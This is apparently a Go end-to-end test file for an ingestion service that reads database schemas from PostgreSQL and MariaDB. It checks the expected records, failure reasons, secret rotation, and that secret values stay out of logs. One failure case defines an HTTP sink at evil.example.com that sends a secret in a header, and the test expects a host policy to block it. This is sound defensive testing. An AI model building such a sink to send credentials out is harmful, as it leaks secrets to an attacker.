package e2e

import (
	"encoding/json"
	"fmt"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/outposthq/outpost/libs/dbtest"
	"github.com/outposthq/outpost/libs/ingest/ingesttest"
	"github.com/outposthq/outpost/tests/harness"
)

// ingestRunnerEnv adds a secrets folder to the runners of these tests.
func ingestRunnerEnv(secretsDir string) map[string]string {
	return map[string]string{
		"OUTPOST_SECRETS_ENV_PREFIXES": "E2E_",
		"OUTPOST_SECRETS_DIR":          secretsDir,
		"OUTPOST_HEARTBEAT_INTERVAL":   "1s",
		// The test databases listen on loopback; every name may resolve.
		"OUTPOST_POLICY_ALLOWED_HOSTS": "127.0.0.1,localhost,[::1]",
		"OUTPOST_POLICY_SECRETS":       "*=*",
	}
}

const pgURN = "urn:li:dataset:(urn:li:dataPlatform:postgres,DB.shop."
const myURN = "urn:li:dataset:(urn:li:dataPlatform:mysql,DB."

var wantRecords = map[string]string{
	"postgres": `database postgres DB urn:li:container:C1
  subTypes: [Database]
schema postgres DB.shop urn:li:container:C2
  subTypes: [Schema]
  container: urn:li:container:C1
view postgres DB.shop.big_orders ` + pgURN + `big_orders,PROD)
  description: Multi-line orders
  subTypes: [View]
  field id bigint [NumberType] nullable=true key=false
  view: SELECT id FROM shop.orders WHERE (line > 1);
  container: urn:li:container:C2
table postgres DB.shop.customers ` + pgURN + `customers,PROD)
  description: People who buy
  subTypes: [Table]
  field id integer [NumberType] nullable=false key=true
  field email text [StringType] nullable=false key=false "Login address"
  field note character varying(20) [StringType] nullable=true key=false
  primaryKeys: [id]
  container: urn:li:container:C2
table postgres DB.shop.orders ` + pgURN + `orders,PROD)
  subTypes: [Table]
  field id bigint [NumberType] nullable=false key=true
  field line integer [NumberType] nullable=false key=true
  field customer_id integer [NumberType] nullable=false key=false
  field placed_at timestamp with time zone [TimeType] nullable=true key=false
  field paid boolean [BooleanType] nullable=true key=false
  primaryKeys: [id line]
  fk orders_customer_fk: [urn:li:schemaField:(` + pgURN + `orders,PROD),customer_id)] -> [urn:li:schemaField:(` + pgURN + `customers,PROD),id)] (` + pgURN + `customers,PROD))
  container: urn:li:container:C2
`,
	"mysql": `database mysql DB urn:li:container:C1
  subTypes: [Database]
view mysql DB.big_orders ` + myURN + `big_orders,PROD)
  subTypes: [View]
  field id bigint(20) [NumberType] nullable=false key=false
  view: select ` + "`DB`.`orders`.`id` AS `id` from `DB`.`orders` where `DB`.`orders`.`line` > 1" + `
  container: urn:li:container:C1
table mysql DB.customers ` + myURN + `customers,PROD)
  description: People who buy
  subTypes: [Table]
  field id int(11) [NumberType] nullable=false key=true
  field email text [StringType] nullable=false key=false "Login address"
  field note varchar(20) [StringType] nullable=true key=false
  primaryKeys: [id]
  container: urn:li:container:C1
table mysql DB.orders ` + myURN + `orders,PROD)
  subTypes: [Table]
  field id bigint(20) [NumberType] nullable=false key=true
  field line int(11) [NumberType] nullable=false key=true
  field customer_id int(11) [NumberType] nullable=false key=false
  field placed_at timestamp [TimeType] nullable=true key=false
  field paid tinyint(1) [NumberType] nullable=true key=false
  primaryKeys: [id line]
  fk orders_customer_fk: [urn:li:schemaField:(` + myURN + `orders,PROD),customer_id)] -> [urn:li:schemaField:(` + myURN + `customers,PROD),id)] (` + myURN + `customers,PROD))
  container: urn:li:container:C1
`,
}

// TestIngestThroughOutpostSink: a schema with views, keys, comments and a
// deny pattern is read from real PostgreSQL and MariaDB by a runner
// process, its password from a secret file, and the records are read back
// exactly from the job's results and the tenant's metadata view.
func TestIngestThroughOutpostSink(t *testing.T) {
	secretsDir := t.TempDir()
	s := harness.StartStack(t, harness.StackOptions{})
	runner := s.StartRunner("runner-1", ingestRunnerEnv(secretsDir))
	c := s.Client()

	for _, tc := range []struct {
		kind, table string
		records     string // database, schema (PostgreSQL), 2 tables, 1 view
		db          func(testing.TB) *dbtest.DB
		schema      string
		extra       string
		denied      []string // dataset names (after DB.) that must not be read
	}{
		{kind: "postgres", table: "shop.customers", records: "5", db: dbtest.SharedPostgres, schema: ingesttest.PostgresSchema,
			extra:  `include_views: true, schema_pattern: {deny: [scratch, public]}, table_pattern: {deny: ['.*\.tmp_']}`,
			denied: []string{"shop.tmp_orders", "scratch.junk"}},
		{kind: "mysql", table: "customers", records: "4", db: dbtest.SharedMariaDB, schema: ingesttest.MariaDBSchema,
			extra:  `include_views: true, table_pattern: {deny: ['.*\.tmp_']}`,
			denied: []string{"tmp_orders"}},
	} {
		t.Run(tc.kind, func(t *testing.T) {
			db := tc.db(t)
			ingesttest.Load(t, db, tc.schema)
			secret := "DB_PASSWORD_" + strings.ToUpper(tc.kind)
			writeSecret(t, secretsDir, secret, db.Password)

			job := c.Submit(ingestSpec(sqlRecipe(tc.kind, db.HostPort(), db.Database, db.User, "${"+secret+"}", tc.extra)))
			done := c.WaitTerminal(job.ID, 60*time.Second)
			require.Equal(t, "SUCCEEDED", done.State, done.String())
			require.Equal(t, map[string]string{"records": tc.records, "tables": "2", "views": "1", "warnings": "0"}, done.Outputs)

			page, recs := results(t, c, job.ID)
			require.Equal(t, "SUCCEEDED", page.State)
			require.Equal(t, 1, page.Attempt)
			require.Equal(t, len(recs), page.TotalRecords)
			var got strings.Builder
			for _, r := range recs {
				got.WriteString(project(r))
			}
			require.Equal(t, wantRecords[tc.kind], normalize(got.String(), db.Database))

			// The metadata view holds the latest record of each dataset.
			// The scheduler stores a batch in the results, then in the
			// view: the view can trail the results page by a moment.
			name := db.Database + "." + tc.table
			var ds []metadataRecord
			require.Eventually(t, func() bool {
				ds, _ = tryDatasets(c, tc.kind, name)
				return len(ds) > 0
			}, 10*time.Second, 20*time.Millisecond, "dataset %s", name)
			require.Len(t, ds, 1, "dataset %s", name)
			require.Equal(t, job.ID, ds[0].JobID)
			var fromResults metadataRecord
			for _, r := range recs {
				if r.Name == name {
					fromResults = r
				}
			}
			require.Equal(t, project(fromResults), project(ds[0]))
			for _, d := range tc.denied {
				require.Empty(t, datasets(t, c, tc.kind, db.Database+"."+d), "denied %s was ingested", d)
			}
			other := map[string]string{"postgres": "mysql", "mysql": "postgres"}[tc.kind]
			require.Empty(t, datasets(t, c, other, name), "the platform filters")

			waitLogContains(t, c, job.ID, "summary:")
			require.Contains(t, c.Logs(job.ID), "records written to outpost; 0 warnings; 0 failures")
			noSecretAnywhere(t, c, []*harness.Process{runner, s.Scheduler}, job.ID, db.Password)
			noSecretOnBroker(t, s.NATS, db.Password)
		})
	}
}

// TestIngestFailures: each fault ends FAILED with a specific reason, and
// the secret values read for it are nowhere: process logs, job log, job
// record and its history, explain, results.
func TestIngestFailures(t *testing.T) {
	secretsDir := t.TempDir()
	s := harness.StartStack(t, harness.StackOptions{})
	runner := s.StartRunner("runner-1", ingestRunnerEnv(secretsDir))
	c := s.Client()
	pg := dbtest.SharedPostgres(t)
	maria := dbtest.SharedMariaDB(t)
	secrets := map[string]string{
		"WRONG_PG_PASSWORD":    "wr0ng-PG-S3cret-4242",
		"WRONG_MARIA_PASSWORD": "wr0ng-Maria-S3cret-4343",
		"UNREACH_PASSWORD":     "unreach-S3cret-4444",
	}
	for name, v := range secrets {
		writeSecret(t, secretsDir, name, v)
	}

	tests := []struct {
		name, recipe, want string
	}{
		{"wrong password postgres", sqlRecipe("postgres", pg.HostPort(), pg.Database, pg.User, "${WRONG_PG_PASSWORD}", ""),
			fmt.Sprintf(`authentication failed: postgres at %s as %q: wrong username or password`, pg.HostPort(), pg.User)},
		{"wrong password mariadb", sqlRecipe("mysql", maria.HostPort(), maria.Database, maria.User, "${WRONG_MARIA_PASSWORD}", ""),
			fmt.Sprintf(`authentication failed: mysql at %s as %q: wrong username or password`, maria.HostPort(), maria.User)},
		{"unreachable host", sqlRecipe("postgres", "127.0.0.1:1", "db", "u", "${UNREACH_PASSWORD}", ""),
			`source unreachable: postgres at 127.0.0.1:1 as "u"`},
		{"unknown secret name", sqlRecipe("postgres", pg.HostPort(), pg.Database, pg.User, "${NO_SUCH_SECRET}", ""),
			`source.config.password: unknown secret "NO_SUCH_SECRET"`},
		{"sink host outside the runner's policy", fmt.Sprintf("source: {type: postgres, config: {host_port: '%s', database: '%s', password: '${WRONG_PG_PASSWORD}'}}\n"+
			"sink: {type: http, config: {url: 'https://evil.example.com/in', headers: {X-Key: '${UNREACH_PASSWORD}'}}}\n", pg.HostPort(), pg.Database),
			`policy: sink http host evil.example.com:443 is not in policy.allowed_hosts`},
	}
	ids := make([]string, len(tests))
	for i, tt := range tests {
		ids[i] = c.Submit(ingestSpec(tt.recipe)).ID
	}
	values := make([]string, 0, len(secrets))
	for _, v := range secrets {
		values = append(values, v)
	}
	for i, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			done := c.WaitTerminal(ids[i], 60*time.Second)
			require.Equal(t, "FAILED", done.State, done.String())
			require.Equal(t, 1, done.Attempt)
			require.Contains(t, done.Reason, tt.want)
			waitLogContains(t, c, ids[i], tt.want)
			noSecretAnywhere(t, c, []*harness.Process{runner, s.Scheduler}, ids[i], values...)
		})
	}
	noSecretOnBroker(t, s.NATS, values...)

	// Faults the scheduler finds on submit: 400 with the path of the fault.
	for _, tt := range []struct {
		name, recipe, field, want string
	}{
		{"unknown source type", "source: {type: oracle, config: {password: '${WRONG_PG_PASSWORD}'}}\n",
			"task.ingest.recipe.source.type", `unknown source type "oracle" (supported: mysql, postgres)`},
		{"malformed YAML", "source:\n  type: postgres\n config: [\n",
			"task.ingest.recipe", "malformed recipe: YAML: yaml: line 2: did not find expected key"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			code, body := c.Do(http.MethodPost, "/api/v1/jobs", ingestSpec(tt.recipe))
			require.Equal(t, http.StatusBadRequest, code, "%s", body)
			var e struct{ Error, Field string }
			require.NoError(t, json.Unmarshal(body, &e))
			require.Equal(t, tt.field, e.Field, "%s", body)
			require.Contains(t, e.Error, tt.want)
		})
	}
}

// TestIngestSecretFileRotation: a secret file rewritten between two runs is
// read again by the second run, with no runner restart.
func TestIngestSecretFileRotation(t *testing.T) {
	secretsDir := t.TempDir()
	s := harness.StartStack(t, harness.StackOptions{})
	runner := s.StartRunner("runner-1", ingestRunnerEnv(secretsDir))
	c := s.Client()
	db := dbtest.SharedPostgres(t)
	db.Exec(t, `CREATE TABLE rotated (id int PRIMARY KEY)`)
	recipe := sqlRecipe("postgres", db.HostPort(), db.Database, db.User, "${PG_PASSWORD}", "")

	const stale = "stale-S3cret-5555"
	writeSecret(t, secretsDir, "PG_PASSWORD", stale)
	first := c.WaitTerminal(c.Submit(ingestSpec(recipe)).ID, 60*time.Second)
	require.Equal(t, "FAILED", first.State, first.String())
	require.Contains(t, first.Reason, "authentication failed")

	writeSecret(t, secretsDir, "PG_PASSWORD", db.Password)
	second := c.WaitTerminal(c.Submit(ingestSpec(recipe)).ID, 60*time.Second)
	require.Equal(t, "SUCCEEDED", second.State, second.String())
	_, recs := results(t, c, second.ID)
	names := make([]string, 0, len(recs))
	for _, r := range recs {
		names = append(names, r.Name)
	}
	require.Equal(t, []string{db.Database, db.Database + ".public", db.Database + ".public.rotated"}, names)
	for _, id := range []string{first.ID, second.ID} {
		noSecretAnywhere(t, c, []*harness.Process{runner, s.Scheduler}, id, stale, db.Password)
	}
	noSecretOnBroker(t, s.NATS, stale, db.Password)
}
